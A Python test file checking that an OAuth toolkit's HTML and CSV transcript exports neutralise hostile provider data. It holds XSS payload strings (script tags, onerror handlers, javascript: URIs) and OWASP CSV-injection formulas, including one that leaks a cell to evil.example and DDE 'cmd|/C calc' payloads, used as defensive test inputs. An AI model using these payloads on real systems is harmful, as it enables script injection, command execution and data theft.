"""Transcript exports filled by a hostile provider: the HTML has no markup but the toolkit's own.

A real provider on 127.0.0.1 (``scripted``) answers with markup in every field it controls:
the error, error_description and error_uri members, the scope, the token type, the content
type, the body; a pasted redirect carries the same. The exported HTML is parsed with
:mod:`html.parser` and every tag and attribute must be one :meth:`Transcript.to_html` writes.
"""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlencode

import pytest

from tests.support.canaries import CANARY_SECRET
from tests.support.servers import Reply
from widgets import AuthorizationCodeFlow, ClientCredentialsFlow, Transcript, WebhookAuthConfig, WebhookAuthError
from widgets.core.transcript import COLUMNS, OUTCOMES

MARKUP = ('<script>alert(1)</script>"><img src=x onerror=alert(2)>'
          "'><svg/onload=alert(3)><a href=\"javascript:alert(4)\">x</a></td></tr></table><style>*{}</style>"
          "<!--c--><![CDATA[x]]><iframe srcdoc='<script>alert(5)</script>'>")
JS_URI = "javascript:alert(document.domain)//" + MARKUP

#: Everything to_html writes itself.
OWN_TAGS = {"meta", "title", "style", "table", "thead", "tbody", "tr", "th", "td"}
OWN_ATTRIBUTES = {("meta", "charset", "utf-8")} | {("tr", "class", f"outcome-{o}") for o in (*OUTCOMES, "other")}


class Scan(HTMLParser):
    """Every start tag, attribute, comment, declaration and processing instruction of a page."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: set[tuple[str, str, str | None]] = set()
        self.other: list[str] = []
        self.inside: list[str] = []
        self.text_in: dict[str, list[str]] = {}

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes |= {(tag, name, value) for name, value in attrs}
        self.inside.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        if self.inside and self.inside[-1] == tag:
            self.inside.pop()

    def handle_data(self, data):
        if self.inside:
            self.text_in.setdefault(self.inside[-1], []).append(data)

    def handle_comment(self, data):
        self.other.append("comment " + data)

    def handle_decl(self, decl):
        if decl.lower() != "doctype html":
            self.other.append("decl " + decl)

    def handle_pi(self, data):
        self.other.append("pi " + data)

    def unknown_decl(self, data):
        self.other.append("unknown " + data)


def assert_only_own_markup(page: str) -> Scan:
    scan = Scan()
    scan.feed(page)
    scan.close()
    assert set(scan.tags) <= OWN_TAGS, set(scan.tags) - OWN_TAGS
    assert scan.attributes <= OWN_ATTRIBUTES, scan.attributes - OWN_ATTRIBUTES
    assert scan.other == []
    assert scan.tags.count("style") == 1 and scan.tags.count("title") == 1 and scan.tags.count("table") == 1
    assert "".join(scan.text_in["title"]) == "webhook-oauth-lab transcript"
    assert "<" not in "".join(scan.text_in["style"])
    return scan


def hostile_token_endpoint(scripted, *, ok: bool):
    def answer(seen):
        if ok:
            return Reply(200, {"access_token": "tok-" + "x" * 30, "token_type": "Bearer", "expires_in": 60,
                               "scope": MARKUP}, headers={"X-Hostile": MARKUP})
        return Reply(400, {"error": MARKUP, "error_description": MARKUP, "error_uri": JS_URI},
                     content_type=f'application/json; x="{MARKUP}"')
    scripted.routes["/token"] = answer
    return scripted.url("/token")


def hostile_transcript(scripted) -> Transcript:
    """One transcript with every row kind a hostile provider can fill: refused, granted, denied."""
    transcript = Transcript()
    settings = dict(client_id="c", client_secret=CANARY_SECRET, scope="alerts:write")
    token_url = hostile_token_endpoint(scripted, ok=False)
    with pytest.raises(WebhookAuthError):
        ClientCredentialsFlow(WebhookAuthConfig(auth_type="oauth_client_credentials", token_url=token_url,
                                                **settings), transcript).fetch_token()
    hostile_token_endpoint(scripted, ok=True)
    ClientCredentialsFlow(WebhookAuthConfig(auth_type="oauth_client_credentials", token_url=token_url,
                                            **settings), transcript).fetch_token()
    flow = AuthorizationCodeFlow(WebhookAuthConfig(auth_type="oauth_code", auth_url=scripted.url("/authorize"),
                                                   token_url=token_url, redirect_uri="https://app.example.com/cb",
                                                   **settings), transcript)
    request = flow.begin()
    pasted = "https://app.example.com/cb?" + urlencode({"error": MARKUP, "error_description": MARKUP,
                                                         "error_uri": JS_URI, "state": request.state})
    with pytest.raises(WebhookAuthError):
        flow.complete(pasted)
    # record() is public: a caller's free text, down to the outcome, is data too.
    transcript.record(MARKUP, method=MARKUP, url="https://example.com/" + MARKUP, outcome=MARKUP, note=MARKUP,
                      response_type=MARKUP, response_body=MARKUP, request_headers={MARKUP: MARKUP})
    return transcript


def test_html_export_of_a_hostile_provider_holds_only_the_toolkits_own_markup(scripted):
    transcript = hostile_transcript(scripted)
    page = transcript.to_html()
    scan = assert_only_own_markup(page)
    rows = transcript.rows()
    assert len(rows) >= 4 and scan.tags.count("tr") == len(rows) + 1
    assert scan.tags.count("td") == len(rows) * len(COLUMNS)
    shown = "".join(scan.text_in["td"])
    assert "<script>alert(1)</script>" in shown and "error_uri=javascript:alert" in shown  # shown, as text
    assert ("tr", "class", "outcome-other") in scan.attributes  # the free-text outcome
    assert ("tr", "class", "outcome-refused") in scan.attributes or ("tr", "class", "outcome-error") in scan.attributes
    assert CANARY_SECRET not in page


def test_html_export_written_to_a_file_is_the_same_page(scripted, tmp_path):
    transcript = hostile_transcript(scripted)
    path = tmp_path / "t.html"
    assert transcript.to_html(str(path)) == path.read_text(encoding="utf-8")
    assert_only_own_markup(path.read_text(encoding="utf-8"))


# -- CSV: cells a spreadsheet would run --------------------------------------------------------------

#: Cells that spreadsheets run (OWASP's CSV injection examples and the start characters they use).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1dcmd|' /C calc'!A0",  # fullwidth =
    "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)",
]
NUMERIC = {"status", "elapsed_ms"}


def in_header(formula: str) -> bool:
    """Whether a header value can carry it (no CR or LF, latin-1): else it travels in the body only."""
    return "\r" not in formula and "\n" not in formula and formula.isascii()


def formula_transcript(scripted) -> Transcript:
    """A transcript whose provider-controlled cells (content type, body preview) start with each formula."""
    transcript = Transcript()
    for n, formula in enumerate(FORMULAS):
        path = f"/token{n}"
        ctype = formula if in_header(formula) else "text/plain; charset=utf-8"
        scripted.routes[path] = Reply(400, formula.encode(), content_type=ctype)
        config = WebhookAuthConfig(auth_type="oauth_client_credentials", token_url=scripted.url(path),
                                   client_id="c", client_secret=CANARY_SECRET)
        with pytest.raises(WebhookAuthError):
            ClientCredentialsFlow(config, transcript).fetch_token()
    transcript.record(FORMULAS[0], method=FORMULAS[1], url=FORMULAS[2], outcome=FORMULAS[3], note=FORMULAS[0],
                      response_type=FORMULAS[4], response_body=FORMULAS[0], status=-1, elapsed_ms=-2.5)
    return transcript


def read_csv(text: str) -> list[dict[str, str]]:
    import csv
    import io

    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_export_neutralises_every_cell_a_spreadsheet_would_run(scripted):
    transcript = formula_transcript(scripted)
    written = read_csv(transcript.to_csv())
    assert len(written) == len(FORMULAS) + 1 == len(transcript)
    starts = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    for row in written:
        for column, cell in row.items():
            if column not in NUMERIC:
                assert not cell.startswith(starts), (column, cell)
    previews = [row["response_preview"] for row in written[:-1]]
    types = [row["response_type"] for row in written[:-1]]
    for formula, preview, ctype in zip(FORMULAS, previews, types):
        assert preview.startswith("'") and formula.strip() in preview  # intact after the quote
        if in_header(formula):
            assert ctype == "'" + formula.lstrip()  # a header value loses its leading tab in transit
    last = written[-1]
    assert last["step"] == "'" + FORMULAS[0] and last["method"] == "'" + FORMULAS[1]
    assert last["response_type"] == "'" + FORMULAS[4]
    assert last["status"] == "-1" and last["elapsed_ms"] == "-2.5"  # numbers stay numbers
    assert all(row["status"] == "400" for row in written[:-1])


def test_csv_export_to_a_file_matches_the_text(scripted, tmp_path):
    transcript = formula_transcript(scripted)
    path = tmp_path / "t.csv"
    assert transcript.to_csv(str(path)) == path.read_text(encoding="utf-8")


@pytest.mark.parametrize("cell, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("\n=1", "'\n=1"), ("\uff1d1", "'\uff1d1"), ("\uff20x", "'\uff20x"),
    ("a=1", "a=1"), (" =1", " =1"), ("", ""), ("'=1", "'=1"), ("ok", "ok"),
    (-1, -1), (-2.5, -2.5), (400, 400), (None, None),
])
def test_spreadsheet_safe(cell, expected):
    from widgets.core.transcript import spreadsheet_safe

    assert spreadsheet_safe(cell) == expected
